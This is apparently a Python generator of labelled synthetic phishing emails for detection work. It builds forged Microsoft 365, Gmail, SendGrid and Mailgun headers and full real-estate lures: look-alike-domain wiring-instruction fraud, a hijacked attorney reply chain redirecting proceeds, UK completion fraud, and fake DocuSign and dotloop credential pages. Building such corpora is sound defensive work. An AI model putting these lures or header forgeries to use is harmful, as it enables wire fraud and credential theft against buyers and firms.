        rdns = f"mail-yt{n % 3 + 1}can01on20{70 + n}.outbound.protection.outlook.com"
    else:
        helo = f"NAM{10 + n}-BN{n % 9 + 1}-obe.outbound.protection.outlook.com"
        rdns = f"mail-bn{n % 9 + 1}nam{10 + n}on20{70 + n}.outbound.protection.outlook.com"
    ip = f"40.107.{int(tok(seed + 'i3', 3, DIGITS)) % 255}.{int(tok(seed + 'i4', 3, DIGITS)) % 250 + 2}"
    return ip, helo, rdns


def outlook_mail(seed: str, *, rcv: str, rcpt: str, sender: tuple[str, str], to: str, subject: str, sent: datetime,
                 paras: list[str], attachments: list[Leaf] | None = None, cc: str | None = None,
                 reply_to: str | None = None, quote: dict | None = None, region: str = "namprd",
                 spf: str = "pass", dkim: str | None = "pass", dmarc: str | None = "pass", policy_: str = "none",
                 sign_domain: str | None = None, extra: list[str] | None = None, lang: str = "en-US",
                 in_reply_to: str | None = None, signature: list[str] | None = None) -> bytes:
    name, email = sender
    domain = email.split("@")[1]
    sign_domain = sign_domain or domain
    host = _ms_host(seed + "smbx", region)
    mid, ms_extra = outlook_headers(seed, host, subject.removeprefix("RE: ").removeprefix("Re: ").removeprefix("FW: "),
                                    sent, bool(attachments), lang)
    ip, helo, rdns = m365_out_ip(seed, region)
    auth = Auth(email, ip, helo, rdns, spf, [(sign_domain, "selector1", dkim)] if dkim else [], dmarc, domain, policy_)
    all_paras = paras + (signature or [])
    html_body = paras_html(all_paras)
    plain_body = "\n".join(to_plain(p) for p in all_paras) + "\n"
    if quote:
        html_body += "\n<p class=\"MsoNormal\"><o:p>&nbsp;</o:p></p>\n" + _quote_html_outlook(quote)
        plain_body += "\n" + _quote_plain_outlook(quote) + "\n"
    alt_boundary = f"_000_{mid[1:].split('@')[0]}_"
    body = alt(plain_body, outlook_html(html_body), alt_boundary)
    if attachments:
        body = mixed(f"_004_{mid[1:].split('@')[0]}_", [body, *attachments])
    headers = [f"From: {addr(name, email)}", f"To: {to}"]
    if cc:
        headers.append(f"CC: {cc}")
    headers += [f"Subject: {enc(subject)}", f"Date: {rfc(sent)}", f"Message-ID: {mid}"]
    if reply_to:
        headers.append(f"Reply-To: {reply_to}")
    if in_reply_to:
        headers += [f"In-Reply-To: {in_reply_to}", f"References: {in_reply_to}"]
    headers += ms_extra + (extra or [])
    hops = [m365_out_hop(seed, sent, region)]
    return assemble(seed, rcv=rcv, rcpt=rcpt, auth=auth, sent=sent, headers=headers, body=body, hops=hops,
                    sign=[(sign_domain, "selector1")] if dkim else [])


def google_out_ip(seed: str) -> tuple[str, str]:
    pfx = tok(seed + "gp", 2, "abcdefghijklmnopqrstuvwxyz") + tok(seed + "gn", 1, "12")
    helo = f"mail-{pfx}-f{int(tok(seed + 'gf', 2, DIGITS)) % 60 + 41}.google.com"
    ip = f"209.85.{int(tok(seed + 'g3', 3, DIGITS)) % 96 + 128}.{int(tok(seed + 'g4', 3, DIGITS)) % 250 + 2}"
    return ip, helo


def _gmail_quote(q: dict) -> tuple[str, str]:
    plain = f"On {q['when']} {q['from']} wrote:\n" + "\n".join("> " + to_plain(p) if p else ">" for p in q["paras"])
    inner = "".join(f"<div>{p}</div>" if p else "<div><br></div>" for p in q["paras"])
    html_q = (f'<br><div class="gmail_quote gmail_quote_container"><div dir="ltr" class="gmail_attr">On {q["when"]} '
              f'{html_escape(q["from"])} wrote:<br></div><blockquote class="gmail_quote" style="margin:0px 0px 0px 0.8ex;'
              f'border-left:1px solid rgb(204,204,204);padding-left:1ex">{inner}</blockquote></div>')
    return plain, html_q


def gmail_mail(seed: str, *, rcv: str, rcpt: str, sender: tuple[str, str], to: str, subject: str, sent: datetime,
               paras: list[str], attachments: list[Leaf] | None = None, cc: str | None = None, quote: dict | None = None,
               workspace: bool = False, reply_to: str | None = None, in_reply_to: str | None = None,
               spf: str = "pass", dmarc: str | None = "pass", policy_: str = "none", charset: str = "UTF-8",
               signature: list[str] | None = None) -> bytes:
    name, email = sender
    domain = email.split("@")[1]
    ip, helo = google_out_ip(seed)
    if workspace:
        dk = [(domain, "google", "pass")]
    else:
        dk = [("gmail.com", "20230601", "pass")]
        policy_ = "none" if domain != "gmail.com" else "quarantine"
    auth = Auth(email, ip, helo, helo, spf, dk, dmarc, domain, policy_)
    all_paras = paras + ([""] + ["--"] + signature if signature else [])
    plain = "\n".join(to_plain(p) for p in all_paras) + "\n"
    html_body = gmail_html(all_paras)
    if quote:
        qp, qh = _gmail_quote(quote)
        plain += "\n" + qp + "\n"
        html_body = html_body.rstrip("\n") + qh + "\n"
    body = alt(plain, html_body, gmail_boundary(seed + "alt"), charset=charset)
    if attachments:
        body = mixed(gmail_boundary(seed + "mix"), [body, *attachments])
    mid = f"<CA{tok(seed + 'mid', 1, '+BCDEFGHJKLMN')}{tok(seed + 'mid2', 40, URLSAFE)}@mail.gmail.com>"
    headers = []
    if workspace:
        headers.append(dkim_sig(seed + "x1e100", "1e100.net", "20230601", sent,
                                "x-gm-message-state:from:to:subject:date:message-id:mime-version:x-gm-gg").replace(
            "DKIM-Signature", "X-Google-DKIM-Signature", 1))
    headers.append(f"X-Gm-Message-State: AOJu0Y{tok(seed + 'gms', 54, URLSAFE)}")
    headers.append(f"X-Gm-Gg: ASbGnc{tok(seed + 'ggg', 60, URLSAFE)}")
    headers.append(f"X-Google-Smtp-Source: AGHT+I{tok(seed + 'gs', 60, URLSAFE)}")
    headers.append("MIME-Version: 1.0")
    if in_reply_to:
        headers += [f"References: {in_reply_to}", f"In-Reply-To: {in_reply_to}"]
    headers += [f"From: {addr(name, email)}", f"Date: {rfc(sent)}", f"Message-ID: {mid}",
                f"Subject: {enc(subject)}", f"To: {to}"]
    if cc:
        headers.append(f"Cc: {cc}")
    if reply_to:
        headers.append(f"Reply-To: {reply_to}")
    sign = [(domain, "google")] if workspace else [("gmail.com", "20230601")]
    return assemble(seed, rcv=rcv, rcpt=rcpt, auth=auth, sent=sent, headers=headers, body=body, sign=sign)


def phpmailer_mail(seed: str, *, rcv: str, rcpt: str, from_: str, to: str, subject: str, sent: datetime, html_body: str,
                   auth: Auth, plain: str | None = None, attachments: list[Leaf] | None = None,
                   reply_to: str | None = None, hop: str | None = None, sign: list[tuple[str, str]] | None = None,
                   mid_domain: str | None = None, xmailer: str | None = "PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)",
                   extra: list[str] | None = None) -> bytes:
    uid = tok(seed + "uid", 32, URLSAFE.replace("-", "").replace("_", ""))
    if plain is not None:
        body = alt(plain, html_body, f"b1_{uid}")
    else:
        body = text(html_body, "html")
    if attachments:
        body = mixed(f"b2_{uid}" if plain is not None else f"b1_{uid}", [body, *attachments])
    mid_domain = mid_domain or from_.split("@")[-1].rstrip(">")
    headers = [f"Date: {rfc(sent)}", f"To: {to}", f"From: {from_}"]
    if reply_to:
        headers.append(f"Reply-To: {reply_to}")
    headers += [f"Subject: {enc(subject)}", f"Message-ID: <{uid}@{mid_domain}>"]
    if xmailer:
        headers.append(f"X-Mailer: {xmailer}")
    headers += extra or []
    return assemble(seed, rcv=rcv, rcpt=rcpt, auth=auth, sent=sent, headers=headers, body=body,
                    hops=[hop] if hop else [], sign=sign)


def postfix_hop(seed: str, host: str, client: str, sent: datetime, rcpt: str) -> str:
    return (f"Received: from {client}\n\tby {host} (Postfix) with ESMTPSA id {tok(seed + 'sq', 10, UPALNUM)}\n"
            f"\tfor <{rcpt}>; {rfc(sent)}")


def web_page(inner: str, width: int = 600, bg: str = "#f4f4f4", font: str = "Helvetica,Arial,sans-serif") -> str:
    return ('<!DOCTYPE html>\n<html>\n<head>\n<meta http-equiv="Content-Type" content="text/html; charset=utf-8">\n'
            '<meta name="viewport" content="width=device-width, initial-scale=1.0">\n</head>\n'
            f'<body style="margin:0;padding:0;background-color:{bg};">\n'
            f'<table role="presentation" width="100%" cellpadding="0" cellspacing="0" border="0" style="background-color:{bg};">\n'
            f'<tr><td align="center" style="padding:24px 12px;">\n'
            f'<table role="presentation" width="{width}" cellpadding="0" cellspacing="0" border="0" '
            f'style="background-color:#ffffff;font-family:{font};font-size:14px;line-height:21px;color:#333333;">\n'
            f'{inner}\n</table>\n</td></tr>\n</table>\n</body>\n</html>\n')


def button(url: str, label: str, color: str = "#1a5fb4") -> str:
    return (f'<table role="presentation" cellpadding="0" cellspacing="0" border="0"><tr><td align="center" bgcolor="{color}" '
            f'style="border-radius:4px;"><a href="{url}" target="_blank" style="display:inline-block;padding:12px 28px;'
            f'font-size:15px;color:#ffffff;text-decoration:none;font-weight:bold;">{label}</a></td></tr></table>')


def row(content: str, pad: str = "12px 32px") -> str:
    return f'<tr><td style="padding:{pad};">{content}</td></tr>'


# --------------------------------------------------------------------------------------------------------------
# the population: offices and their mail hosting
# --------------------------------------------------------------------------------------------------------------

LAW = "harlowbeckett.com"            # Boston real-estate and litigation firm, Microsoft 365
TITLE = "ridgelinetitle.com"         # Denver title and escrow agency, Microsoft 365
BROKER = "cedarpointrealty.com"      # Charlotte brokerage, Google Workspace
TAXPREP = "moralestax.com"           # San Antonio tax preparer, cPanel shared hosting (Exim)
TAXPREP_MX = "exim:server217.web-hosting.com"
CPA = "kesslerwynncpa.com"           # Columbus CPA firm, Microsoft 365
SOLO = "whitcomblaw.com"             # Portland solo attorney, Google Workspace
UKCONV = "ashbyfenwick.co.uk"        # Leeds conveyancing solicitors, Microsoft 365 (EU)
UKACC = "thornburyhale.co.uk"        # Bristol chartered accountants, Fastmail
CANOT = "gagnonnotaires.ca"          # Quebec City notaries, Google Workspace (French)
CALAW = "okaforlindqvist.ca"         # Toronto real-estate lawyers, own Postfix server
CALAW_MX = "postfix:mail.okaforlindqvist.ca"
CAACC = "pacificledgercpa.ca"        # Vancouver accounting firm, Microsoft 365 (Canada)


def qr_pdf(url: str, lines: list[str], title: str, caption: str) -> bytes:
    """A one-page PDF with text lines and a QR code image of ``url`` (grey, FlateDecode)."""
    import segno
    import zlib

    qr = segno.make(url, error="m", micro=False)
    matrix = [list(r) for r in qr.matrix]
    border, scale = 4, 4
    size = (len(matrix) + 2 * border) * scale
    raw = bytearray()
    for y in range(size):
        my = y // scale - border
        for x in range(size):
            mx = x // scale - border
            dark = 0 <= my < len(matrix) and 0 <= mx < len(matrix) and matrix[my][mx]
            raw.append(0 if dark else 255)
    image = zlib.compress(bytes(raw), 9)
    content = ["BT", "/F1 11 Tf", "14 TL", "56 780 Td"]
    for line in lines:
        esc = line.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")
        content.append(f"({esc}) Tj T*")
    content += ["ET", "q 180 0 0 180 207 360 cm /Im1 Do Q",
                "BT /F1 10 Tf 170 340 Td (" + caption.replace("(", "\\(").replace(")", "\\)") + ") Tj ET"]
    stream = "\n".join(content).encode("latin-1")
    objects = F.image_page(stream, image, size, size, "FlateDecode")
    objects.append(f"<< /Title ({title}) /Producer (Adobe PDF Library 17.0) "
                   f"/CreationDate (D:20250617091500-04'00') >>".encode())
    return F.pdf_file(objects, len(objects))


def ox_hop(seed: str, sent: datetime) -> tuple[str, str, str, str]:
    """Namecheap Private Email (Open-Xchange): (hop, ip, helo, rdns)."""
    n = int(tok(seed + "ox", 2, DIGITS)) % 12 + 1
    ip = f"198.54.122.{int(tok(seed + 'oxip', 3, DIGITS)) % 60 + 130}"
    helo = f"MTA-{n:02d}-{n % 4 + 1}.privateemail.com"
    hop = (f"Received: from APP-{n % 9 + 1:02d} (unknown [10.50.14.{int(tok(seed + 'oxi', 2, DIGITS)) + 100}])\n"
           f"\tby {helo.lower()} (Postfix) with ESMTPA id 4{tok(seed + 'oxq', 10, UPALNUM)};\n\t{rfc(utc(sent))}")
    return hop, ip, helo, helo.lower()


# --------------------------------------------------------------------------------------------------------------
# attacks 1-12: wire fraud and fake / abused closing platforms
# --------------------------------------------------------------------------------------------------------------

@sample("phish-title-wire-lookalike", "phishing",
        "Reply-chain closing wire fraud to a home buyer from a one-letter look-alike of the title company on Namecheap "
        "mail, with an 'updated' wiring-instructions PDF and a plea not to call the office.")
def a01() -> bytes:
    seed = "a01"
    sent = when("2024-06-12 10:42:17 -0600")
    hop, ip, helo, rdns = ox_hop(seed, sent)
    fake = "kbrandt@ridgelinetltle.com"
    auth = Auth(fake, ip, helo, rdns, "pass", [("ridgelinetltle.com", "default", "pass")], None, "ridgelinetltle.com")
    paras = [
        "Hi Daniel,",
        "",
        "Thank you for getting the signed disclosures back to us. Please note that our accounting department has "
        "updated our escrow wiring instructions effective this week due to an internal audit of our trust accounts. "
        "The instructions you received in the welcome packet are no longer valid and any wire sent to the old account "
        "will be returned and may delay your closing on Friday.",
        "",
        "I have attached the updated wiring instructions for your cash-to-close of $87,412.36. Kindly initiate the wire "
        "today or first thing tomorrow morning and reply to this email with the Fed reference once sent so I can match it "
        "to your file.",
        "",
        "Please do not call our main office line about this, the front desk is swamped with end-of-month closings and "
        "I am out signing most of the day. Email is the quickest way to reach me.",
        "",
        "Thank you,",
        "Kayla Brandt",
        "Escrow Officer | Ridgeline Title &amp; Escrow",
        "7600 E Orchard Rd, Suite 250N, Greenwood Village, CO 80111",
    ]
    quote_paras = [
        "Hi Daniel and Priya,",
        "",
        "Welcome! Ridgeline Title &amp; Escrow has opened file RT-24-03187 for your purchase of 4417 Juniper Ct, Littleton. "
        "Closing is scheduled for Friday, June 14 at 10:00 AM at our Greenwood Village office.",
        "",
        "Your lender will send the Closing Disclosure directly. We will confirm your final cash-to-close figure once it is balanced.",
        "",
        "Kayla Brandt | Escrow Officer",
    ]
    plain = "\n".join(to_plain(p) for p in paras) + "\n\n" + "\n".join(
        ["On June 10, 2024 at 9:03 AM, Kayla Brandt <kbrandt@ridgelinetitle.com> wrote:"] +
        ["> " + to_plain(p) if p else ">" for p in quote_paras]) + "\n"
    html_body = ('<!DOCTYPE html>\n<html><head>\n<meta charset="UTF-8">\n</head><body>\n'
                 + "".join(f'<p class="default-style">{p}</p>\n' if p else '<p class="default-style"><br></p>\n' for p in paras)
                 + '<blockquote type="cite">\n<div>On June 10, 2024 at 9:03 AM, Kayla Brandt &lt;kbrandt@ridgelinetitle.com&gt; wrote:</div>\n'
                 + "".join(f"<div>{p}</div>\n" if p else "<div><br></div>\n" for p in quote_paras)
                 + "</blockquote>\n</body></html>\n")
    pdf_bytes = F.pdf([
        "RIDGELINE TITLE & ESCROW, LLC",
        "ESCROW WIRING INSTRUCTIONS - REVISED 06/11/2024",
        "",
        "File No.: RT-24-03187",
        "Property: 4417 Juniper Ct, Littleton, CO 80127",
        "Buyer(s): Daniel Mercer, Priya Mercer",
        "",
        "Receiving Bank: Choice Financial Group",
        "Bank Address: 4501 23rd Ave S, Fargo, ND 58104",
        "ABA Routing No.: 091311229",
        "Account Name: Ridgeline Escrow Services Trust",
        "Account No.: 202417583306",
        "Reference: RT-24-03187 / Mercer",
        "",
        "Funds must be received by 9:00 AM MT on the day of closing.",
        "Previous wiring instructions are void. Reply by email to confirm once sent.",
    ], title="Wire Instructions RT-24-03187")
    body = mixed(f"b1_{tok(seed + 'mx', 20)}", [
        alt(plain, html_body, f"b2_{tok(seed + 'al', 20)}"),
        attachment("application/pdf", "Ridgeline_Wire_Instructions_RT-24-03187.pdf", pdf_bytes),
    ])
    headers = [f"Date: {rfc(sent)}",
               "From: Kayla Brandt <kbrandt@ridgelinetltle.com>",
               "To: Daniel Mercer <daniel.mercer84@gmail.com>",
               "Cc: priya.mercer.pm@gmail.com",
               f"Message-ID: <{tok(seed + 'm1', 9, DIGITS)}.{tok(seed + 'm2', 6, DIGITS)}.{int(sent.timestamp())}{tok(seed, 3, DIGITS)}@privateemail.com>",
               f"In-Reply-To: <{tok(seed + 'irt', 20, UPALNUM)}@CH3PR17MB6690.namprd17.prod.outlook.com>",
               "Subject: RE: 4417 Juniper Ct - Closing Scheduled Friday / RT-24-03187",
               "X-Priority: 3", "Importance: Normal",
               "X-Mailer: Open-Xchange Mailer v7.10.6-Rev62"]
    return assemble(seed, rcv="gmail", rcpt="daniel.mercer84@gmail.com", auth=auth, sent=sent, headers=headers,
                    body=body, hops=[hop], sign=[("ridgelinetltle.com", "default")])


@sample("phish-reply-chain-proceeds-redirect", "phishing",
        "Reply-chain hijack from the seller's real (compromised) attorney mailbox asking the escrow officer to wire sale "
        "proceeds to a 'new' account, with a forged disbursement authorization PDF and no link.")
def a02() -> bytes:
    seed = "a02"
    sent = when("2024-09-19 14:05:41 -0600")
    quote = {
        "from": "Kayla Brandt <kbrandt@ridgelinetitle.com>",
        "sent": "Wednesday, September 18, 2024 4:12 PM",
        "to": "Gregory Barnes <gbarnes@barnesclosinglaw.com>",
        "cc": "Closing Team <closings@ridgelinetitle.com>",
        "subject": "RE: 982 Quail Run Dr - Seller Payoff and Proceeds / RT-24-05521",
        "paras": ["Greg,", "",
                  "Thanks, we received the payoff from Mr. Cooper. Seller proceeds are estimated at $212,840.17. Please "
                  "have Mr. Delgado complete the attached proceeds disbursement form; we will verbally confirm any wire "
                  "instructions with him at the number on file before funding.", "",
                  "Kayla Brandt | Escrow Officer | Ridgeline Title &amp; Escrow"],
    }
    paras = [
        "Kayla,", "",
        "Please see the attached signed proceeds authorization from Mr. Delgado. He recently moved his accounts to his "
        "credit union after some fraud on his old card, so the proceeds need to go to the new account shown on the form "
        "instead of the Wells Fargo account in your file.", "",
        "He is out of the country for his daughter's wedding until the 30th and is only reachable through me, so there is "
        "no need to call him; the form is notarized and I can confirm on his behalf. Please let me know once the wire is "
        "queued for tomorrow's funding.", "",
        "Best regards,", "",
        "Gregory Barnes", "Barnes Closing Law, PLLC", "1550 Larimer St, Suite 400 | Denver, CO 80202",
        "Office: (303) 555-0186",
    ]
    att = pdf_att("Delgado_Proceeds_Authorization_signed.pdf", [
        "SELLER PROCEEDS DISBURSEMENT AUTHORIZATION",
        "File: RT-24-05521   Property: 982 Quail Run Dr, Castle Rock, CO 80104",
        "Seller: Ramon A. Delgado",
        "",
        "I authorize Ridgeline Title & Escrow to disburse my net proceeds by wire to:",
        "Bank: Bluevine / Coastal Community Bank",
        "Routing: 125109019    Account: 8720 1944 6031",
        "Account holder: Ramon Delgado",
        "",
        "Signed: /s/ Ramon A. Delgado     Date: 09/18/2024",
        "Notary Public, State of Colorado - Commission 20194017733",
    ], title="Scan_0918")
    return outlook_mail(seed, rcv="m365", rcpt="kbrandt@ridgelinetitle.com",
                        sender=("Gregory Barnes", "gbarnes@barnesclosinglaw.com"),
                        to="Kayla Brandt <kbrandt@ridgelinetitle.com>", subject=quote["subject"], sent=sent,
                        paras=paras, attachments=[att], quote=quote, policy_="quarantine",
                        in_reply_to=f"<{tok(seed + 'irt', 28, UPALNUM)}@SA1PR17MB5523.namprd17.prod.outlook.com>")


@sample("phish-uk-completion-bank-change", "phishing",
        "UK completion fraud to a house buyer from a hyphenated look-alike of her conveyancing solicitors (attacker M365 "
        "tenant), claiming the client account changed after an 'SRA audit' and asking for the balance the same day.")
def a03() -> bytes:
    seed = "a03"
    sent = when("2025-05-22 11:18:06 +0100")
    paras = [
        "Dear Sophie,", "",
        "Further to my earlier email, I can confirm that exchange has taken place and completion is fixed for Friday 30th May.",
        "",
        "Please note that following a routine SRA compliance audit our firm's client account details have been updated. "
        "Any funds sent to the account shown on our client care letter will be rejected and returned, which will delay "
        "completion and may result in you being in breach of contract.", "",
        "Please transfer the balance of purchase monies of <b>&pound;148,260.00</b> today to the account below:", "",
        "Account name: Ashby Fenwick Client Acc", "Bank: Monzo Business", "Sort code: 04-00-03",
        "Account number: 71448216", "Reference: AF/CON/25/1147 DRAYCOTT", "",
        "Our phone lines are currently being upgraded so please reply by email only and send me a screenshot of the "
        "transfer confirmation once done.", "",
        "Kind regards", "",
        "Hannah Whitley", "Senior Conveyancer", "Ashby Fenwick Solicitors", "Park Row House, 19 Park Row, Leeds LS1 5JF",
        "<span style=\"font-size:8.0pt;color:gray\">Ashby Fenwick Solicitors is authorised and regulated by the "
        "Solicitors Regulation Authority (SRA No. 612284).</span>",
    ]
    return outlook_mail(seed, rcv="gmail", rcpt="sophie.draycott@gmail.com",
                        sender=("Hannah Whitley", "hannah.whitley@ashby-fenwick.co.uk"),
                        to="Sophie Draycott <sophie.draycott@gmail.com>",
                        subject="Completion - 14 Plumtree Close, Harrogate HG2 - balance of purchase monies",
                        sent=sent, paras=paras, region="eurprd", dmarc=None,
                        sign_domain="ashbyfenwicklegal.onmicrosoft.com", lang="en-GB")


def sendgrid_hop(seed: str, sent: datetime) -> tuple[list[str], str, str, str]:
    ip = f"149.72.{int(tok(seed + 'sg3', 3, DIGITS)) % 200 + 20}.{int(tok(seed + 'sg4', 3, DIGITS)) % 250 + 2}"
    o = f"o{int(tok(seed + 'o', 2, DIGITS)) % 9 + 1}.ptr{tok(seed + 'ptr', 4, DIGITS)}"
    hops = [f"Received: by filterdrecv-{tok(seed + 'fd', 10, HEX)}-{tok(seed + 'fd2', 5, ALNUM)} with SMTP id "
            f"filterdrecv-{tok(seed + 'fd', 10, HEX)}-{tok(seed + 'fd2', 5, ALNUM)}-1-{tok(seed + 'fd3', 8, UPALNUM)}-{tok(seed + 'fd4', 2, DIGITS)}\n"
            f"        {rfc(utc(sent))[:-6]}.{tok(seed + 'ms', 9, DIGITS)} +0000 (UTC)",
            f"Received: from {tok(seed + 'sgh', 22, URLSAFE)} (unknown)\n\tby geopod-ismtpd-{int(tok(seed + 'gp', 2, DIGITS))} (SG) with HTTP\n"
            f"\tid {tok(seed + 'sgid', 22, URLSAFE)}\n\t{rfc(utc(sent))[:-6]}.{tok(seed + 'ms2', 3, DIGITS)} +0000 (UTC)"]
    return hops, ip, o, o


@sample("phish-docusign-kit-sendgrid", "phishing",
        "Fake DocuSign 'Closing Disclosure & Wire Authorization' notice to a real-estate agent, sent through a compromised "
        "SendGrid account of an unrelated agency, its button a SendGrid click-tracking redirect to a credential kit.")
def a04() -> bytes:
    seed = "a04"
    sent = when("2025-02-04 09:37:52 -0500")
    rcpt = "jordan.pike@cedarpointrealty.com"
    hops, ip, helo, rdns = sendgrid_hop(seed, sent)
    mf = f"bounces+31877562-{tok(seed + 'bn', 4, HEX)}-jordan.pike=cedarpointrealty.com@em5821.tsunamicreative.net"
    auth = Auth(mf, ip, helo + ".tsunamicreative.net", rdns + ".tsunamicreative.net", "pass",
                [("tsunamicreative.net", "s1", "pass"), ("sendgrid.info", "smtpapi", "pass")], "pass", "tsunamicreative.net")
    click = f"https://u31877562.ct.sendgrid.net/ls/click?upn=u001.{tok(seed + 'upn', 180, URLSAFE)}"
    inner = (row('<span style="font-family:Helvetica,Arial;font-size:22px;color:#000;font-weight:bold;">Docu<span style="color:#FFC820;">Sign</span></span>', "24px 32px 8px") +
             row('<table width="100%" cellpadding="0" cellspacing="0" style="background-color:#1E4CA1;"><tr><td align="center" '
                 'style="padding:28px 24px;color:#ffffff;font-size:16px;">Ridgeline Title &amp; Escrow sent you a document to review and sign.'
                 '<br><br><table cellpadding="0" cellspacing="0"><tr><td bgcolor="#FFC423" style="border-radius:2px;">'
                 f'<a href="{click}" style="display:inline-block;padding:10px 24px;color:#333333;font-weight:bold;'
                 'font-size:14px;text-decoration:none;">REVIEW DOCUMENT</a></td></tr></table></td></tr></table>', "0 32px") +
             row('<b>Kayla Brandt</b><br><a href="mailto:kbrandt@ridgelinetitle.com" style="color:#2463d1;">kbrandt@ridgelinetitle.com</a>'
                 '<br><br>Please review and sign the Closing Disclosure &amp; Wire Authorization for 2209 Sedgefield Rd. '
                 'Buyer and listing agent signatures are required before funds can be released.<br><br>Thank you,<br>Ridgeline Closing Team') +
             row('<span style="font-size:11px;color:#666666;"><b>Do Not Share This Email</b><br>This email contains a secure link to '
                 'Docusign. Please do not share this email, link, or access code with others.<br><br><b>About Docusign</b><br>'
                 'Sign documents electronically in just minutes. It\'s safe, secure, and legally binding.<br><br>'
                 '<b>Questions about the Document?</b><br>If you need to modify the document or have questions about the details '
                 'in the document, please reach out to the sender by emailing them directly.</span>', "16px 32px 28px"))
    html_body = web_page(inner, bg="#eaeaea")
    plain = (f"Ridgeline Title & Escrow sent you a document to review and sign.\n\nREVIEW DOCUMENT: {click}\n\n"
             "Kayla Brandt\nkbrandt@ridgelinetitle.com\n\nPlease review and sign the Closing Disclosure & Wire Authorization "
             "for 2209 Sedgefield Rd.\n\nDo Not Share This Email\n")
    body = alt(plain, html_body, tok(seed + "bd", 64, HEX))
    headers = ["X-Entity-ID: u001." + tok(seed + "ent", 24, URLSAFE),
               f"Date: {rfc(utc(sent))}",
               'From: "Docusign via Ridgeline Title" <docs@tsunamicreative.net>',
               f"To: {rcpt}",
               f"Message-ID: <{tok(seed + 'sgm', 22, URLSAFE)}@geopod-ismtpd-{int(tok(seed + 'gp', 2, DIGITS))}>",
               "Subject: Completed: Please DocuSign: Closing Disclosure & Wire Authorization - 2209 Sedgefield Rd",
               f"X-SG-EID: u001.{tok(seed + 'eid', 120, URLSAFE)}",
               f"X-SG-ID: u001.{tok(seed + 'sgi', 90, URLSAFE)}"]
    return assemble(seed, rcv="gmail", rcpt=rcpt, auth=auth, sent=sent, headers=headers, body=body, hops=hops,
                    sign=[("tsunamicreative.net", "s1"), ("sendgrid.info", "smtpapi")])


def mailgun_hop(seed: str, sent: datetime, domain: str) -> tuple[list[str], str, str, str]:
    ip = f"159.135.{int(tok(seed + 'mg3', 3, DIGITS)) % 30 + 224}.{int(tok(seed + 'mg4', 3, DIGITS)) % 250 + 2}"
    helo = f"m{ip.split('.')[2]}-{ip.split('.')[3]}.mailgun.net"
    hops = [f"Received: by {tok(seed + 'mgh', 16, HEX)} with HTTP id {tok(seed + 'mgid', 24, HEX)}; {rfc(utc(sent))[:-6]} GMT"]
    return hops, ip, helo, helo


@sample("phish-dotloop-lookalike-r2", "phishing",
        "Fake dotloop 'shared a loop with you' invitation from a look-alike domain sent through Mailgun to a real-estate "
        "agent; the link goes to a credential page on a Cloudflare R2 public bucket.")
def a05() -> bytes:
    seed = "a05"
    sent = when("2025-04-15 16:22:09 -0400")
    rcpt = "alicia.reyes@cedarpointrealty.com"
    dom = "dotloop-docs.com"
    hops, ip, helo, rdns = mailgun_hop(seed, sent, dom)
    mf = f"bounce+{tok(seed + 'b1', 6, HEX)}.{tok(seed + 'b2', 6, HEX)}-alicia.reyes=cedarpointrealty.com@mg.{dom}"
    auth = Auth(mf, ip, helo, rdns, "pass", [(dom, "pic", "pass"), ("mailgun.org", "mg", "pass")], "pass", dom)
    link = f"https://pub-{tok(seed + 'r2', 32, HEX)}.r2.dev/loop/view.html?loop={tok(seed + 'lp', 9, DIGITS)}&amp;u={b64url(rcpt)}"
    inner = (row('<img src="https://pub-' + tok(seed + 'r2', 32, HEX) + '.r2.dev/loop/dotloop-logo.png" width="120" alt="dotloop">', "24px 32px 4px") +
             row('<p style="font-size:18px;color:#222;"><b>Jordan Pike</b> invited you to a loop</p>'
                 '<p style="font-size:15px;">118 Larkspur Ln, Matthews, NC 28105 &ndash; Purchase Agreement &amp; Addenda</p>'
                 '<p>Jordan Pike (Cedar Point Realty) has shared documents that require your review and signature. '
                 'Please review before 5:00 PM today to keep the offer on track.</p>') +
             row(button(link, "Review Documents", "#0088cc")) +
             row('<p style="font-size:12px;color:#888;">You received this email because you were added to a loop on dotloop. '
                 '&copy; 2025 dotloop, LLC. 1501 4th Ave, Suite 900, Seattle, WA 98101</p>', "20px 32px 28px"))
    plain = (f"Jordan Pike invited you to a loop\n\n118 Larkspur Ln, Matthews, NC 28105 - Purchase Agreement & Addenda\n\n"
             f"Review Documents: {link.replace('&amp;', '&')}\n\n(c) 2025 dotloop, LLC\n")
    body = alt(plain, web_page(inner), tok(seed + "bd", 32, HEX))
    headers = [f"Date: {rfc(utc(sent))}", f"From: dotloop <no-reply@{dom}>", f"To: {rcpt}",
               "Subject: Jordan Pike shared a loop with you: 118 Larkspur Ln - Purchase Agreement",
               f"Message-Id: <{tok(seed + 'mid', 14, DIGITS)}.{tok(seed + 'mid2', 20, HEX)}@{dom}>",
               f"X-Mailgun-Sid: {tok(seed + 'sid', 64, URLSAFE)}", f"X-Mailgun-Tag: loop-invite",
               f"Sender: no-reply=dotloop-docs.com@mg.{dom}"]
    return assemble(seed, rcv="gmail", rcpt=rcpt, auth=auth, sent=sent, headers=headers, body=body, hops=hops,
                    sign=[(dom, "pic"), ("mailgun.org", "mg")])


@sample("phish-qualia-webflow-compromised-agency", "phishing",
        "Qualia Connect 'secure message' lure sent from a compromised mailbox of another title agency (Google Workspace, "
        "authentication passes) to an escrow officer, linking to a credential page hosted on webflow.io.")
def a06() -> bytes:
    seed = "a06"
    sent = when("2024-11-07 13:48:22 -0700")
    link = f"https://qualia-connect-secure-docs.webflow.io/?file=SA-24-1187&amp;ref={tok(seed + 'ref', 12, HEX)}"
    paras = [
        "Hello,", "",
        "Summit Abstract Co. has sent you a secure message and documents through Qualia Connect regarding:", "",
        "<b>File #SA-24-1187 &ndash; 3310 W Hampden Ave, Englewood, CO 80110</b>",
        "Documents: Seller Settlement Statement, Payoff Authorization, Wire Confirmation (3)", "",
        f'<a href="{link}">View Secure Documents on Qualia Connect</a>', "",
        "For your security, this message will expire in 48 hours.", "",
        "Thank you,", "Tara Lindquist", "Closing Coordinator | Summit Abstract Co.", "(719) 555-0147",
    ]
    return gmail_mail(seed, rcv="m365", rcpt="kbrandt@ridgelinetitle.com",
                      sender=("Tara Lindquist", "tlindquist@summitabstractco.com"),
                      to="kbrandt@ridgelinetitle.com", subject="Qualia Connect: New secure message for File #SA-24-1187",
                      sent=sent, paras=paras, workspace=True, policy_="none")


@sample("phish-softpro-google-redirect", "phishing",
        "'SoftPro Secure Email' encrypted-message lure from a compromised GoDaddy-hosted title office mailbox to a law "
        "firm paralegal; the link goes through a Google redirect to a look-alike portal with the recipient's address in it.")
